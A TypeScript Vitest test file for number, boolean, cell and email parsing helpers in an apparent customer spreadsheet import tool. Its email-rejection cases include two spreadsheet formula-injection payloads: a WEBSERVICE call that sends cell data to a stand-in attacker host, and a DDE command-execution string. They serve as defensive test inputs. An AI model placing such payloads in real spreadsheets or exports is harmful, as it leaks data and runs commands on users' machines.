import { describe, expect, it } from "vitest";
import {
  cleanCell,
  isEmailLike,
  normalizeEmail,
  parseBoolean,
  parseNumber,
  snakeCase,
  splitMulti,
  stripApostrophe,
} from "./values.js";

describe("parseNumber", () => {
  it.each([
    ["12.5", 12.5],
    ["12", 12],
    ["-3", -3],
    ["0", 0],
    ["12,50", 12.5],
    ["1 234,56", 1234.56],
    ["1\u00a0234,56", 1234.56],
    ["1\u202f234,56", 1234.56],
    ["1.234,56", 1234.56],
    ["1,234.56", 1234.56],
    ["€12.50", 12.5],
    ["12.50 EUR", 12.5],
    ["12,50 €", 12.5],
    ["$1,234.00", 1234],
    ["(12.50)", -12.5],
    ["-€12.50", -12.5],
    ["€-12.50", -12.5],
    ["'42", 42],
    [" 7 ", 7],
    ["1.234.567", 1234567],
    ["1,234", 1234],
    ["0,125", 0.125],
    ["1'234.50", 1234.5],
    [".5", 0.5],
  ])("%s → %s", (text, expected) => {
    expect(parseNumber(text)).toBeCloseTo(expected, 10);
  });

  it.each([
    "",
    "abc",
    "12a",
    "1.2.3,4,5",
    "NaN",
    "Infinity",
    "1e5",
    "0x10",
    "12..5",
    "--3",
    "1,23,4",
    "€",
  ])("%s is not a number", (text) => {
    expect(parseNumber(text)).toBeNaN();
  });

  it("resolves 1,234 with an explicit decimal mark", () => {
    expect(parseNumber("1,234", ",")).toBeCloseTo(1.234, 10);
    expect(parseNumber("1,234", ".")).toBe(1234);
    expect(parseNumber("12.5", ",")).toBeNaN();
    expect(parseNumber("1.234,5", ",")).toBeCloseTo(1234.5, 10);
    expect(parseNumber("1234", ",")).toBe(1234);
  });
});

describe("parseBoolean", () => {
  it.each([
    ["yes", true],
    ["YES", true],
    ["no", false],
    ["true", true],
    ["False", false],
    ["1", true],
    ["0", false],
    ["y", true],
    ["N", false],
    ["subscribed", true],
    ["unsubscribed", false],
    ["opted_in", true],
    ["opted_out", false],
    ["Opted In", true],
    ["oui", true],
    ["non", false],
    ["", false],
    ["  ", false],
  ])("%s → %s", (text, expected) => {
    expect(parseBoolean(text)).toBe(expected);
  });

  it("treats a missing cell as false and an unknown word as undefined", () => {
    expect(parseBoolean(undefined)).toBe(false);
    expect(parseBoolean("maybe")).toBeUndefined();
  });
});

describe("cells", () => {
  it("removes the spreadsheet apostrophe", () => {
    expect(stripApostrophe("'+33612345678")).toBe("+33612345678");
    expect(stripApostrophe("'7210448301122")).toBe("7210448301122");
    expect(stripApostrophe("O'Brien")).toBe("O'Brien");
    expect(cleanCell("  '7210448301122 ")).toBe("7210448301122");
    expect(cleanCell("")).toBeUndefined();
    expect(cleanCell("   ")).toBeUndefined();
    expect(cleanCell("'")).toBeUndefined();
  });

  it("splits tags and lists on , and ;", () => {
    expect(splitMulti("vip, newsletter;sensitive_skin ,, vip")).toEqual([
      "vip",
      "newsletter",
      "sensitive_skin",
    ]);
    expect(splitMulti("")).toEqual([]);
    expect(splitMulti(undefined)).toEqual([]);
  });

  it("turns headers into snake_case property names", () => {
    expect(snakeCase("Skin Type")).toBe("skin_type");
    expect(snakeCase("Fecha de nacimiento (customer.metafields.facts.birth_date)")).toBe(
      "fecha_de_nacimiento_customer_metafields_facts_birth_date",
    );
    expect(snakeCase("Type de peau")).toBe("type_de_peau");
    expect(snakeCase("Intérêt")).toBe("interet");
    expect(snakeCase("loyaltyPoints")).toBe("loyalty_points");
  });
});

describe("emails", () => {
  it("trims and lowercases", () => {
    expect(normalizeEmail("  Marie.Dupont@Example.COM ")).toBe("marie.dupont@example.com");
  });

  it("NFC-normalises: the same address typed with a decomposed accent is the same", () => {
    const nfd = "e\u0301loi\u0308se@exemple.fr";
    expect(normalizeEmail(nfd)).toBe(normalizeEmail("\u00e9lo\u00efse@exemple.fr"));
    expect(normalizeEmail(nfd)).toBe("\u00e9lo\u00efse@exemple.fr");
  });

  it.each([
    "marie.dupont@example.com",
    "o'brien+shop@mail.example.co.uk",
    "_x@y.fr",
    "élodie@exemple.fr",
  ])("accepts %j", (text) => {
    expect(isEmailLike(text)).toBe(true);
  });

  it.each([
    '=webservice("http://evil.example/?"&a1)@x.com',
    "=cmd|'/c calc'!a0@x.com",
    "+1@x.com",
    "-x@x.com",
    '"a b"@x.com',
    "a@[127.0.0.1]",
    "a@x.123",
    "a.@x.com",
    ".a@x.com",
    "a@-x.com",
    "a@x-.com",
    "a,b@x.com",
    "a;b@x.com",
    "a@x_y.com",
    "a\u0000b@x.com",
    "x".repeat(65) + "@x.com",
    "",
    "marie",
    "marie@",
    "@example.com",
    "marie@example",
    "a b@example.com",
    "a@@b.com",
    "a@b..com",
    "a@b.com.",
  ])("rejects %j", (text) => {
    expect(isEmailLike(text)).toBe(false);
  });
});
